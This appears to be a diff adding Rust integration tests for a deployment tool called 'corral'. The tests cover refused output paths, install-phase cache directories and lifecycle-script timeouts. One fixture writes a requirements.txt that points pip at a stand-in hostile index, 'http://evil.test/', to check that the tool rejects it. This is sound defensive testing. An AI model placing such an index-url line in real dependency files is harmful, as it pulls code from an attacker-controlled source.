+fn unusable_out_paths_and_sources_are_refused_with_nothing_created() {
+    let base = Base::new();
+    let src = base.source("src", &[("requirements.txt", "")]);
+    let v = deploy(None, &src, Path::new("/tmp/corral-deploy-never"), &[]);
+    assert_eq!(v["error"]["code"], "deploy.out", "{v}");
+    assert!(
+        v["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("/var/tmp/NAME"),
+        "{v}"
+    );
+    assert!(!Path::new("/tmp/corral-deploy-never").exists());
+    // An existing directory that is not a tree is never replaced.
+    let other = base.path().join("other");
+    std::fs::create_dir(&other).unwrap();
+    std::fs::write(other.join("keep"), "x").unwrap();
+    let v = deploy(None, &src, &other, &[]);
+    assert_eq!(v["error"]["code"], "deploy.out", "{v}");
+    assert!(other.join("keep").exists());
+    if is_root() {
+        // The phases run as uid 65534: a tree behind a directory it cannot
+        // search is refused up front, naming the directory and the fix.
+        let private = base.path().join("private");
+        std::fs::create_dir(&private).unwrap();
+        std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o700)).unwrap();
+        let v = deploy(None, &src, &private.join("t"), &[]);
+        assert_eq!(v["error"]["code"], "deploy.out", "{v}");
+        assert!(
+            v["error"]["message"]
+                .as_str()
+                .unwrap()
+                .contains("chmod o+x"),
+            "{v}"
+        );
+        assert_nothing_left(&private.join("t"));
+    }
+    let empty = base.source("empty", &[("README", "")]);
+    let v = deploy(None, &empty, &base.path().join("t"), &[]);
+    assert_eq!(v["error"]["code"], "deploy.detect", "{v}");
+    let bad = base.source(
+        "bad",
+        &[("requirements.txt", "--index-url http://evil.test/\nx\n")],
+    );
+    let v = deploy(None, &bad, &base.path().join("t"), &[]);
+    assert_eq!(v["error"]["code"], "deploy.dependency", "{v}");
+    assert_nothing_left(&base.path().join("t"));
+}
+
+#[test]
+fn cache_is_the_install_phase_home_and_stays_warm() {
+    let reg = registry();
+    let base = Base::new();
+    let cache = base.path().join("cache");
+    let py = base.source(
+        "py",
+        &[("requirements.txt", "corral-dep==1.0\n"), ("run.py", "")],
+    );
+    let node = base.source(
+        "node",
+        &[
+            (
+                "package.json",
+                r#"{"name": "c", "dependencies": {"corral-left": "1.0.0"}}"#,
+            ),
+            ("index.js", ""),
+        ],
+    );
+    let flags = ["--cache", cache.to_str().unwrap()];
+    let v = deploy(Some(&reg), &py, &base.path().join("t1"), &flags);
+    assert_eq!(ok(&v)["phases"][0]["name"], "install");
+    assert_eq!(v["phases"][0]["home"], cache.to_str().unwrap());
+    ok(&deploy(Some(&reg), &node, &base.path().join("t2"), &flags));
+    // npm's cache landed in the HOME the operator named. (pip keeps no
+    // HTTP cache of this registry: its answers carry no cache headers.)
+    assert!(
+        cache.join(".npm/_cacache").is_dir(),
+        "no npm cache in {}",
+        cache.display()
+    );
+    // Without --cache nothing is kept: a fresh HOME in corral's TMPDIR,
+    // removed afterwards.
+    let tmp = base.path().join("tmp");
+    std::fs::create_dir(&tmp).unwrap();
+    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let v = deploy_env(
+        Some(&reg),
+        &py,
+        &base.path().join("t3"),
+        &[],
+        &[("TMPDIR", tmp.to_str().unwrap())],
+    );
+    ok(&v);
+    let home = PathBuf::from(v["phases"][0]["home"].as_str().unwrap());
+    assert!(home.starts_with(&tmp), "{}", home.display());
+    assert!(!home.exists());
+    let left: Vec<_> = std::fs::read_dir(&tmp)
+        .unwrap()
+        .filter_map(|e| e.ok())
+        .map(|e| e.file_name())
+        .collect();
+    assert!(left.is_empty(), "a phase HOME was left: {left:?}");
+}
+
+#[test]
+fn a_phase_that_hangs_is_killed_at_its_timeout() {
+    let reg = registry();
+    let base = Base::new();
+    let src = base.source(
+        "src",
+        &[
+            (
+                "package.json",
+                r#"{"name": "slow", "version": "1.0.0", "scripts": {"postinstall": "node hang.js"}}"#,
+            ),
+            // Self-limiting too: it gives up after 60 s on its own.
+            ("hang.js", "setTimeout(() => process.exit(0), 60000);\n"),
+            ("index.js", ""),
+        ],
+    );
+    let out = base.path().join("tree");
+    let started = std::time::Instant::now();
+    let mut c = corral();
+    c.args([
+        "deploy",
+        "--json",
+        "--allow-lifecycle-scripts",
+        "--timeout",
+        "3",
+    ])
+    .arg(&src)
+    .arg("--out")
+    .arg(&out)
+    .args(reg.flags());
+    if !is_root() {
+        c.arg("--allow-unenforced-limits");
+    }
+    let o = c.output().unwrap();
+    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
+    assert!(
+        started.elapsed() < std::time::Duration::from_secs(30),
+        "{:?}",
+        started.elapsed()
+    );
+    assert_eq!(v["error"]["code"], "deploy.phase", "{v}");
+    assert!(
+        v["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("timed out after 3 s"),
+        "{v}"
+    );
+    assert_eq!(v["phases"][0]["timed_out"], true, "{v}");
+    assert_nothing_left(&out);
+}
